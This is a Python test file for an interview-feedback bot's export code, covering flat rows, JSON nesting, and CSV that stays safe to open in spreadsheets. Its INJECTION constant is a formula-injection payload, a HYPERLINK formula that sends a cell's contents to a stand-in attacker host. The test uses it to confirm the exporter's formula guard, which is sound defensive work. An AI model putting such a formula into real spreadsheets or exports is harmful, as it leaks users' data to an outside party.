"""Exports: flat rows, CSV that reads back as written (and is safe to open in a
spreadsheet), and nested JSON."""

from __future__ import annotations

import csv
import io
import json
from dataclasses import replace
from datetime import UTC, datetime, timedelta, timezone

import pytest

from bot.domain.comparison import FinishedPanel
from bot.domain.export import (
    EXPORT_COLUMNS,
    FORMULA_GUARD,
    export_rows,
    spreadsheet_safe,
    to_csv,
    to_json,
)
from bot.domain.feedback import (
    Engagement,
    FeedbackDraft,
    PanelistFeedback,
    QuestionAnswer,
    Rating,
    Resolution,
)
from bot.domain.panel import PanelistState, RoundSnapshot, Status
from bot.domain.rubric import SECOND_INTERVIEW
from tests.support.snapshots import snapshot

CEST = timezone(timedelta(hours=2))
INJECTION = '=HYPERLINK("https://evil.example/?d="&A1,"Click me")'
AWKWARD = [
    INJECTION,
    "+1 555 0100",
    "-2+3",
    "@SUM(A1:A9)",
    "\tindented",
    "\rreturn first",
    "Smith, Jr.",
    'Said "hi", then left',
    "two\nlines",
    "windows\r\nlines",
    "lone\rreturn",
    "عربي \u202eRTL override\u202c",
    "emoji 👩‍💻 and Zoë",
    "",
    " leading space",
    "'already quoted",
]


def a_round(i: int, candidate: str, status: str = Status.COMPLETE) -> RoundSnapshot:
    return snapshot(
        id=i,
        candidate_name=candidate,
        profile_link="https://example.com/in/x",
        role_name="Backend, platform",
        interview_at=datetime(2026, 11, 20, 15, 30, tzinfo=CEST),
        due_at=datetime(2026, 11, 21, 15, 30, tzinfo=CEST),
        status=status,
        questions=((11, "Can they lead? Really?"),),
        panelists=(
            PanelistState("U1", "Ana", True),
            PanelistState("U2", "Bo", True),
            PanelistState("U3", "Cy", False),
        ),
    )


def a_feedback(user_id: str, name: str, evidence: str, rated: int = 5) -> PanelistFeedback:
    keys = [c.key for c in SECOND_INTERVIEW.criteria][:rated]
    draft = FeedbackDraft(
        ratings=tuple(Rating(k, 1 + n % 4, evidence) for n, k in enumerate(keys)),
        recommendation=3,
        question_answers=(QuestionAnswer(11, Resolution.PARTLY, "mostly"),),
        candidate_questions="What's the bonus?",
        engagement=Engagement.HIGH,
    )
    return PanelistFeedback(user_id, name, draft, revision=2)


def a_panel(i: int = 1, candidate: str = "Ada Lovelace", evidence: str = "ok") -> FinishedPanel:
    return FinishedPanel(
        round=a_round(i, candidate, Status.CLOSED),
        feedback=(a_feedback("U1", "Ana", evidence), a_feedback("U2", "Bo", evidence, rated=3)),
        finished_at=datetime(2026, 11, 22, 8, 0),  # naive: UTC, as stored
    )


def read_back(text: str) -> list[dict[str, str]]:
    reader = csv.DictReader(io.StringIO(text, newline=""))
    assert tuple(reader.fieldnames or ()) == EXPORT_COLUMNS
    return list(reader)


def as_csv_value(value: str | int | None) -> str:
    """What a cell should read back as: numbers as text, None empty, formulas guarded."""
    if value is None:
        return ""
    if isinstance(value, int):
        return str(value)
    return FORMULA_GUARD + value if value[:1] in ("=", "+", "-", "@", "\t", "\r") else value


def test_one_row_per_panelist_and_criterion() -> None:
    rows = export_rows([a_panel()])
    criteria = len(SECOND_INTERVIEW.criteria)
    assert len(rows) == 2 * criteria  # Cy never submitted: no rows
    assert all(tuple(row) == EXPORT_COLUMNS for row in rows)
    first = rows[0]
    assert first == {
        "round_id": 1,
        "candidate": "Ada Lovelace",
        "role": "Backend, platform",
        "status": "closed",
        "finished_at": "2026-11-22T08:00:00+00:00",
        "interview_at": "2026-11-20T13:30:00+00:00",
        "panelist_id": "U1",
        "panelist": "Ana",
        "criterion_key": "depth",
        "criterion": "Depth of skills and experience",
        "rating": 1,
        "evidence": "ok",
        "recommendation": 3,
        "rubric": "second-interview",
        "rubric_version": 0,
        "decision": None,
        "decided_at": None,
        **dict.fromkeys(EXPORT_COLUMNS[EXPORT_COLUMNS.index("offer") :]),
    }
    bo = [row for row in rows if row["panelist_id"] == "U2"]
    assert [row["rating"] for row in bo] == [1, 2, 3, None, None]
    assert [row["evidence"] for row in bo][-2:] == ["", ""]
    assert [row["criterion_key"] for row in bo] == [c.key for c in SECOND_INTERVIEW.criteria]


def test_nothing_to_export() -> None:
    assert export_rows([]) == []
    assert to_csv([]) == ",".join(EXPORT_COLUMNS) + "\r\n"
    assert json.loads(to_json([])) == []


@pytest.mark.parametrize("value", AWKWARD)
def test_csv_round_trip(value: str) -> None:
    panel = FinishedPanel(
        round=replace(a_round(1, value), role_name=value),
        feedback=(a_feedback("U1", value, value), a_feedback("U2", "Bo", value, rated=2)),
        finished_at=datetime(2026, 11, 22, 8, 0, tzinfo=UTC),
    )
    rows = export_rows([panel])
    back = read_back(to_csv(rows))
    assert back == [{k: as_csv_value(v) for k, v in row.items()} for row in rows]


def test_csv_round_trip_of_everything_at_once() -> None:
    panels = [a_panel(i, value, evidence=value) for i, value in enumerate(AWKWARD)]
    rows = export_rows(panels)
    text = to_csv(rows)
    assert read_back(text) == [{k: as_csv_value(v) for k, v in row.items()} for row in rows]
    assert text.startswith(",".join(EXPORT_COLUMNS) + "\r\n")


def test_formula_guard() -> None:
    text = to_csv(export_rows([a_panel(candidate=INJECTION)]))
    assert '"\'=HYPERLINK(""https://evil.example/?d=""&A1,""Click me"")"' in text
    assert "\n=" not in text and ",=" not in text
    assert spreadsheet_safe("-1") == "'-1"
    assert spreadsheet_safe("a=b") == "a=b"
    assert spreadsheet_safe(-1) == -1  # numbers are numbers
    assert spreadsheet_safe(None) is None


def test_csv_rejects_unknown_columns() -> None:
    with pytest.raises(ValueError):
        to_csv([{"round_id": 1, "salary": "secret"}])


def test_json_nests_rounds_panelists_and_ratings() -> None:
    panel = a_panel(candidate="Zoë 👩‍💻 <!channel>")
    text = to_json([panel])
    assert "Zoë 👩‍💻" in text  # ensure_ascii=False
    assert '\n  {\n    "round_id": 1,' in text  # indent=2
    [r] = json.loads(text)
    assert r["candidate"] == "Zoë 👩‍💻 <!channel>"
    assert r["status"] == "closed" and r["partial"] is True
    assert r["finished_at"] == "2026-11-22T08:00:00+00:00"
    assert r["interview_at"] == "2026-11-20T13:30:00+00:00"
    assert r["rubric"]["key"] == "second-interview" and len(r["rubric"]["criteria"]) == 5
    assert r["questions"] == [{"id": 11, "text": "Can they lead? Really?"}]
    assert [p["panelist_id"] for p in r["panelists"]] == ["U1", "U2"]
    assert r["not_submitted"] == [{"panelist_id": "U3", "panelist": "Cy"}]
    bo = r["panelists"][1]
    assert bo["recommendation"] == 3 and bo["engagement"] == "high" and bo["revision"] == 2
    assert [x["rating"] for x in bo["ratings"]] == [1, 2, 3, None, None]
    assert bo["question_answers"] == [{"question_id": 11, "resolution": "partly", "note": "mostly"}]
    assert bo["candidate_questions"] == "What's the bonus?"


def test_json_agrees_with_the_flat_rows() -> None:
    panels = [a_panel(1), a_panel(2, "Grace Hopper")]
    flat = {
        (row["round_id"], row["panelist_id"], row["criterion_key"]): row["rating"]
        for row in export_rows(panels)
    }
    nested = {
        (r["round_id"], p["panelist_id"], x["criterion_key"]): x["rating"]
        for r in json.loads(to_json(panels))
        for p in r["panelists"]
        for x in p["ratings"]
    }
    assert flat == nested
